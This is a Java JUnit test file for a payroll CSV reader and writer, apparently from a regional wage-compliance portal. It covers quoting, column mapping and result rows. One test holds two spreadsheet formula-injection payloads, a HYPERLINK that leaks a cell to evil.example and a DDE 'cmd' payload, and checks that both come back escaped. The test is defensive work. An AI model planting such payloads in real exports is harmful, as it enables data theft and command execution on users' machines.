package cn.gov.qinghai.gateway.wage;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.gov.qinghai.kit.csv.CsvReader;
import cn.gov.qinghai.wage.v1.ComplianceResult;
import cn.gov.qinghai.wage.v1.Employment;
import cn.gov.qinghai.wage.v1.FieldViolation;
import cn.gov.qinghai.wage.v1.PayrollRecord;
import java.io.StringReader;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The portal's payroll CSV: RFC 4180 reading, header-driven columns, result rows; and form-field mapping. */
class PayrollCsvTest {

    @Test
    void readsQuotedFieldsCrlfBomAndSkipsBlankLines() throws Exception {
        CsvReader csv =
                CsvReader.of(new StringReader("\uFEFFa,b,c\r\n\"x, y\",\"say \"\"hi\"\"\",\"two\nlines\"\r\n\r\n1,,3"));
        assertEquals(List.of("a", "b", "c"), csv.next());
        assertEquals(List.of("x, y", "say \"hi\"", "two\nlines"), csv.next());
        assertEquals(List.of("1", "", "3"), csv.next());
        assertNull(csv.next());
    }

    @Test
    void columnsAreFoundByNameInAnyOrderAndEmploymentMayBeChinese() {
        PayrollCsv format = PayrollCsv.fromHeader(List.of("grossPay", "employment", "period", "region", "reference"));
        PayrollRecord r = format.record(List.of(" 1500.00 ", "非全日制", "2017-06-15", "632700"));
        assertEquals("1500.00", r.getGrossPay());
        assertEquals(Employment.PART_TIME, r.getEmployment());
        assertEquals("632700", r.getRegion());
        assertEquals("", r.getReference(), "a short row leaves the missing cells empty for the service to judge");
        assertEquals(Employment.EMPLOYMENT_UNSPECIFIED_VALUE, PayrollCsv.employment("sometimes"));
    }

    @Test
    void aHeaderWithMissingOrUnknownColumnsIsRefusedNamingThem() {
        IllegalArgumentException e =
                assertThrows(IllegalArgumentException.class, () -> PayrollCsv.fromHeader(List.of("region", "salary")));
        assertEquals("missing columns: period, employment, grossPay; unknown columns: salary", e.getMessage());
    }

    @Test
    void resultRowsQuoteWhatNeedsQuotingAndMarkInvalidRecords() {
        String ok = PayrollCsv.resultRow(
                2,
                ComplianceResult.newBuilder()
                        .setReference("A,1")
                        .setCompliant(false)
                        .setCountedPay("600.00")
                        .setMinimumRequired("608.00")
                        .setShortfall("8.00")
                        .setStandardApplied("15.20")
                        .setStandardEffectiveFrom("2017-05-01")
                        .build());
        assertEquals("2,\"A,1\",false,600.00,608.00,8.00,15.20,2017-05-01,", ok);
        String invalid = PayrollCsv.resultRow(
                3,
                ComplianceResult.newBuilder()
                        .addViolations(FieldViolation.newBuilder()
                                .setField("grossPay")
                                .setDescription("must be a decimal, found 'x'"))
                        .build());
        assertTrue(invalid.startsWith("3,,invalid,"), invalid);
        assertTrue(invalid.endsWith(",\"grossPay: must be a decimal, found 'x'\""), invalid);
    }

    @Test
    void aHostileReferenceComesBackInertNotAsAFormula() {
        String row = PayrollCsv.resultRow(
                4,
                ComplianceResult.newBuilder()
                        .setReference("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")")
                        .setCompliant(true)
                        .setCountedPay("1600.00")
                        .setMinimumRequired("1500.00")
                        .setShortfall("0.00")
                        .build());
        assertTrue(row.startsWith("4,\"'=HYPERLINK("), row);
        String plus = PayrollCsv.resultRow(
                5,
                ComplianceResult.newBuilder()
                        .setReference("@SUM(1+1)*cmd|' /C calc'!A0")
                        .build());
        assertTrue(plus.startsWith("5,\"'@SUM("), plus);
    }

    @Test
    void serviceFieldPathsMapToFormFields() {
        assertEquals("grossPay", ComplianceForm.recordField("records[0].grossPay"));
        assertEquals("date", ComplianceForm.recordField("date"));
    }

    @Test
    void employerTypeIsAnOptionalColumnAndUnknownTextReachesTheServiceAsInvalid() {
        // 青政〔2017〕41号 二: the service refuses an uncovered or unknown employer type, naming the field
        PayrollCsv csv = PayrollCsv.fromHeader(List.of("region", "period", "employment", "grossPay", "employerType"));
        assertEquals(
                cn.gov.qinghai.wage.v1.EmployerType.STATE_ORGAN,
                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "state_organ"))
                        .getEmployerType());
        assertEquals(
                cn.gov.qinghai.wage.v1.EmployerType.EMPLOYER_TYPE_UNSPECIFIED,
                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", ""))
                        .getEmployerType());
        assertEquals(
                cn.gov.qinghai.wage.v1.EmployerType.UNRECOGNIZED,
                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "household"))
                        .getEmployerType());
    }
}
